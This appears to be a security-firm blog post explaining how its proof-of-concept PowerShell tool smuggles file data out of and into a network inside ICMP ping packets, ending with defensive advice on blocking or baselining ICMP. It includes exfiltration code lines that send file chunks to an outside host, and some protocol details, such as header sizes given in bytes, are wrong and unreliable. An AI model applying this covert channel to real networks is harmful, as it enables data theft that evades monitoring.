Intelligence in Offensive Security: How to Level Up
Echelon Cyber ICMP

Packet Paranoia – Manipulating ICMP Packets to Covertly Exfil and Infil Data

Many, many, many moons ago, when I was still working for the “Big Fed,” I attended a training and somehow found myself in an argument with a penetration tester about the realism of manipulating established protocols to be used in a manner they weren’t intended to be used for and for that manipulation to still be stealthy and functional.

To their credit, at the time,protocol manipulation wasn’t much of an attack vector unless you were a nation-state APT, but I proved my point by showing them how simple and easy it was to infil and exfil data using Internet Control Message Protocol (ICMP).

Here’s are some of the techniques involved, and how easy it is for those packetsunder a packet sniffer to look - at face value - no different than a generic ping.

Manipulating ICMP to Covertly Exfil and Infil Data: The Resurgence of ICMP Tactics

ICMP packet manipulation is not an unknown technique for every type of threat actor, but somehow, it is still a very little-known technique for cybersecurity professionals, and we rarely see this TTP tested in both penetration testing or red teaming engagements. If I had to guess, this is because most organizations have just chosen to outright block ICMP traffic.

Recently I was reminded of this TTP and with my team seeing a resurgenceof the ability to ping out of a network from Network and System administrator hosts, I thought it would be cool to revisit the concept. So, I created a proof-of-concept tool called Ping-based Information Lookup and Outbound Transfer or just PILOT for short.

I had seen other implementations of this over the years, but for my implementation, the idea around PILOT was simple and had only two requirements.

  • First, PILOT needed to be able to be run by any user on a Windows host, meaning it shouldn’t require any additional software and shouldn’t require administrative privileges to run. This means we needed a living-off-the-land binary with scripting ability, which my go-to for anything scripting within Windows is PowerShell.
  • Second, the packets needed to, as closely as they could, mimic how Windows ping packets look, which could be accomplished by looking at the packets in Wireshark.

Understanding ICMP's Structure: A Foundation for Manipulation

So, before I break down the code itself, let's take a step back and understand why data exfil and infil using ICMP is even possible in the first place, and the best place to start is by looking at this diagram of how IMCP is structured.

When most people think about ICMP, they usually think only of layers 1-3 of the OSI model. This is because most tech-savvy individuals out there are using the command “ping” to determine if they have an outbound connection (usually ping “”).

However, to no surprise for network architects, ICMP is actually a layer 1-4 protocol. This is because ICMP actually goes far beyond general connectivity testing and can be used for thingslike determining a network path’s MTU (maximum transmission unit) size or even transferring NTP information. It’s able to do this through its header information.

  • To break down the ICMP header section, we havethe following sections;
    Type (8 bytes): Indicates the type of the ICMP message; for example, the two most common are Echo Request (Type 8) and Echo Reply (Type 0) as these are the types used in ping, but to most people’s surprise, including my own back in the day, there are actually 256 types, but really only 40 are used today.
  • Code (8 bytes): Provides further information about the message type. These codes are similar to HTTP codes in that they state things like unreachable, redirected, or failure events.
  • Checksum (16 bytes): Used for error-checking the header and data, ensuring the integrity of the message. Pretty obvious use.
  • Data Payload(0-65507 bytes): This portion of the packet is where data is included and can vary in size. In the context of Echo Request/Reply messages, arbitrary data is typically placed for the echo operation. This is really the section that we care about most when manipulating the packet.

Unveiling Covert Exfil Techniques through ICMP Manipulation

So now that we have an advanced knowledge of the ICMP packet, we can begin to manipulate it to work to our advantage as adversaries. Because we only care about the data section, we should focus our efforts there on understanding what default looks like. For Windows 10 hosts, Microsoft puts the alphabet in the packet, so if we add the alphabet, which is 32 bytes, and the default header information, which is 32 bytes, we are left with a packet that is 64 bytes, which can be seen here in Wireshark.

Now that we have the background let's talk about manipulating it. Because ICMP is a well-defined structure, it means that there are plenty of functions organic to programming/scripting languages to manipulate these layer 4 items like the data section. This is exactly what I did with PILOT, and it was all done in less than 100 lines of code inPowerShell.

PowerShell is super powerful (hence the name). It's basically scriptable .Net. So, we can pull the same functions, methods, and assemblies that we could get from the .Net API and manage them in our script. To manipulate packets, you really only need the assemblies “System.Net” and “System.Net.NetworkingInformation.” Then, to call them to manipulate the ICMP packet, you just need to create an object and assign it to a variable.

"$icmpPacket = New-Object System.Net.NetworkInformation.Ping”

Once we have our object assigned, it’s as simple as calling that variable and using the “Ping” assembly’s “Send” method. This can be found here in the Windows .Net API documentation.

If you don’t want to spend time reading the short documentation, I’ll quickly break down the options:

  • Hostname - Pretty self-explanatory; can be an IP address as well
  • Timeout – Also pretty self-explanatory.
  • Buffer – This is looking for a byte array to add to the “Data” section of the packet.• Options – These are different Ping options that you wish to control; we don’t really care for this in our implementation.

So what that looks like in PILOT is:

$response = $icmpPacket.Send($targetIP, 1000, $chunks[$i])

In this case, $chunks[$i] is a 32-byte piece of data extracted from our file through a function I wrote called “Read-FileInChunks.” Its name should make clear what it's supposed to do, but to quickly break it down, it takes a file as its input and separates that file into 32-byte chunks. It then throws that chunk into an array called $chunks. So to send, we just use a “for loop” to iterate from 0 to “n” of the array, and once complete, we exit the loop.

Also, the reason we tie this command to the variable $response is we want to ensure that each ping request receives a ping response, so we are going to check to see if the return value of the “Success” method is set to True. Doing this adds a bit of covertness as it ensures that the data transfer looks as realistic as possible and doesn’t completely stand out on a packet log.

And honestly, it's as simple as that. Aside from breaking down a file into small 32-byte chunks, PILOT, at its core, uses one simple object that is readily available to any and every user to call.

For the distant end for capturing the data and recompiling it, I honestly just provided ChatGPT my code and told it to write a Python script that doesn’t use non-default libraries like Scapy to capture the data and recompile it back into the original format and that’s how was built. The implementation was easy enough that it had no problem with building it and worked without edits, honestly.

The reason I think GPT4 had no problem writing this is that the idea on the Python side was simple. It was to open a socket, only listen for ICMP packets, and once it saw an ICMP packet, it should begin reading the data section of thepacket.

The reason I want to call this out is I don’t believe we should all be worried about LLMs really coming in and writing malware. That shouldn’t be the focus here, and honestly, as a malware dev, LLM malware is horrendous to work with and rarely works right off the bat - you still need to have good programming knowledge.

Manipulating ICMP: Exploring Infil TechniquesAnyways, back to the ICMP stuff. So, I’ve talked a lot about how to extract data, but what about the infill side of the house? What does that look like? Well, I’ll make this quite quick, but, once again, it's quite simple, thanks to the power of the .Net API.

See, there is a class called “PingReply,” and that class information can be found here. but within that class, there are properties like “address,” “options,” and what we really care about “buffer.” The “buffer” property is where the data is received in areply message. So, to pull that information down using PowerShell, all we need to do is parse the PingReply object using “::Parse”. The parse method allows us to take the raw bytes of the ICMP packet and convert them into an object we can understand. In implementation, we need to parse that info into a variable, which we can do like so:

$icmpPacket = [System.Net.NetworkInformation.PingReply]::Parse($buffer, 0, $receivedBytes)

In the code line above, we are taking a $buffer stream, which is the raw ICMP packet, and parsing the information from 0 to the size of the buffer, which is set in a variable called $recievedBytes.

We then just need to pull the data section out, which we can do by calling “$icmpPacket.Buffer” and boom, Bob’s your uncle.

The Significance of ICMP in Modern Networks

So, after all this explanation, you may be left wondering, ok, why do we care? If ICMP is being blocked by most organizations, what’s the big deal?

You would be partly right. This is more relevant today because it appears thatthere is a resurgence of ICMP making its way back into the “allowed” list of firewalls, more so on administrator hosts than any other. If you are like me, this means you get to make one of those scheming faces like Mr. Burns going, “Excellent.”

Of all the places you don’t want ICMP allowed outbound, it's on the Admin’s host - but also, the one place it's really relevant is the Admin’s host, so what's an Admin supposed to do?

There are two approaches I believe we can take. The first is to return to the old way of solving the issue; if it isn’t broken, don’t try fixing it. Restricting ICMP is a quick-win item that will resolve the issue outright without a heavy lift.

The other option is to do the heavy lifting and startto create ICMP baselines for what would be expected in the data section of the packet. ICMP isn’t something that is encrypted, so it shouldn’t be problematic or resource-intensive to review the packet before forwarding it. If you create these baselines, make sure you understand what the ICMP packets will look like for every single type of OS you have within your firewall.

What we can’t have is a return to the days when we just don’t pay attention to ICMP as a data exfil/infill protocol. Threat actors are only getting better, but that doesn’t mean we need to ignore old good security habits because the bad guys have gone to more advanced and sneakymethods. They will gladly return to the easy stuff if it means it will be a quick win for them too.

Anyways, happy hacking. I hopeyou learned something.

Sign up to getCyber Intelligence Weekly in your inbox.